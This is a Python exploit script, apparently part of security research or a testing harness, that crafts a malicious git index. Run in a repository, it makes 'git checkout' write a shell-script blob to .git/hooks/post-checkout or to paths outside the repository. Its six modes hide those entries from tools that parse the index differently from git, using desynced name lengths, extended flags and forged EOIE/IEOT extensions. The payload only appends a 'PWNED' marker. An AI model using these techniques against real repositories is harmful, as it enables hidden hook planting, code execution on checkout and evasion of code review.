# index-craft.py HOW PATH...: writes the index of the repository it runs in
# so that git's checkout (git checkout -- .) writes each PATH (a shell
# script blob: .git/hooks/post-checkout, ../x), which git itself never adds
# to an index. HOW is how the entries are hidden from a reader that reads
# the index otherwise than git does (hostile reviews of 2026-12-06):
#   plain   the entries as git would write them (stand-ins renamed)
#   desync  the first entry's name length in its flags runs past its NUL,
#           over fake entries: git reads PATH..., a NUL-scanning reader not
#   v2ext   a version 2 entry with the extended-flags bit: git reads its two
#           extra bytes in any version
#   ieot    harmless entries in order, PATH... in an unknown extension that
#           EOIE+IEOT point git's threaded reader at (index.threads)
#   split   plain, then git update-index --split-index (PATH... in the
#           shared index file beside it)
#   eoie    as ieot, but the offset table and the end-of-entries mark git
#           finds just before the checksum lie inside one unknown extension
#           that holds them and PATH... (review 10)
import hashlib, os, struct, subprocess, sys

how, paths = sys.argv[1], [p.encode() for p in sys.argv[2:]]
with open('.craft-blob', 'w') as f:
    f.write('#!/bin/sh\necho PWNED >>"$HOME/../pwned"\n')
blob = subprocess.check_output(['git', 'hash-object', '-w', '.craft-blob']).decode().strip()
os.unlink('.craft-blob')
oid = bytes.fromhex(blob)
index = subprocess.check_output(['git', 'rev-parse', '--git-path', 'index']).decode().strip()


def fixed(mode, flags, ctime=0):
    return struct.pack('>10I', ctime, 0, 0, 0, 0, 0, mode, 0, 0, 0) + oid + struct.pack('>H', flags)


def entry(name, mode=0o100755, ctime=0):
    e = fixed(mode, len(name), ctime) + name + b'\0'
    return e + b'\0' * (-len(e) % 8)


def write(body):
    with open(index, 'wb') as f:
        f.write(body + hashlib.sha1(body).digest())


bad = sorted(paths)
k = len(bad) + 1
if how in ('plain', 'split'):
    for t in bad:
        subprocess.check_call(['git', 'update-index', '--add', '--cacheinfo',
                               '100755,%s,%s' % (blob, t.decode().replace('.', 'X'))])
    d = open(index, 'rb').read()[:-20]
    for t in bad:
        d = d.replace(t.replace(b'.', b'X'), t)
    write(d)
    if how == 'split':
        subprocess.check_call(['git', 'update-index', '--split-index'])
elif how == 'desync':
    fakes = b''.join(entry(b'f%d' % i, 0o100644) for i in range(k - 1))
    name1 = b'-\0' + b'\0' * (72 - 62 - 2) + fakes + b'ZZZZ' + b'\0\0\0\0'
    e1 = fixed(0o100644, len(name1)) + name1 + b'\0'
    e1 += b'\0' * (-len(e1) % 8)
    body = b'DIRC' + struct.pack('>II', 2, k) + e1 + b''.join(entry(b) for b in bad)
    zoff = 12 + 62 + len(name1) - 8
    body = body[:zoff + 4] + struct.pack('>I', len(body) - (zoff + 8)) + body[zoff + 8:]
    write(body)
elif how == 'v2ext':
    fakes = b''.join(entry(b'f%d' % i, 0o100644, 0x2d2d2d2d) for i in range(k - 1))
    name1 = fakes + b'ZZZZ' + b'\0\0\0\0'
    e1 = fixed(0o100644, 0x4000 | len(name1)) + b'\x40\x00' + name1 + b'\0'
    e1 += b'\0' * (-len(e1) % 8)
    body = b'DIRC' + struct.pack('>II', 2, k) + e1 + b''.join(entry(b) for b in bad)
    zoff = 12 + 64 + len(name1) - 8
    body = body[:zoff + 4] + struct.pack('>I', len(body) - (zoff + 8)) + body[zoff + 8:]
    write(body)
elif how == 'ieot':
    n = len(bad)
    seq = b''.join(entry(b'a%d' % i, 0o100644) for i in range(n))
    head = b'DIRC' + struct.pack('>II', 2, n)
    ext_start = len(head) + len(seq)
    hidden = b''.join(entry(b) for b in bad)
    zzzz = b'ZZZZ' + struct.pack('>I', len(hidden)) + hidden
    ieot_body = struct.pack('>III', 1, ext_start + 8, n)
    ieot = b'IEOT' + struct.pack('>I', len(ieot_body)) + ieot_body
    eoie = b'EOIE' + struct.pack('>II', 24, ext_start) + hashlib.sha1(zzzz[:8] + ieot[:8]).digest()
    write(head + seq + zzzz + ieot + eoie)
elif how == 'eoie':
    n = len(bad)
    seq = b''.join(entry(b'a%d' % i, 0o100644) for i in range(n))
    head = b'DIRC' + struct.pack('>II', 2, n)
    inner_at = len(head) + len(seq) + 8
    hidden = b''.join(entry(b) for b in bad)
    inner1 = b'ZZZY' + struct.pack('>I', len(hidden)) + hidden
    ieot_body = struct.pack('>III', 1, inner_at + 8, n)
    ieot = b'IEOT' + struct.pack('>I', len(ieot_body)) + ieot_body
    eoie = b'EOIE' + struct.pack('>II', 24, inner_at) + hashlib.sha1(inner1[:8] + ieot[:8]).digest()
    inner = inner1 + ieot + eoie
    write(head + seq + b'ZZZZ' + struct.pack('>I', len(inner)) + inner)
else:
    sys.exit('index-craft.py: unknown HOW ' + how)
print('CRAFTED ' + how)
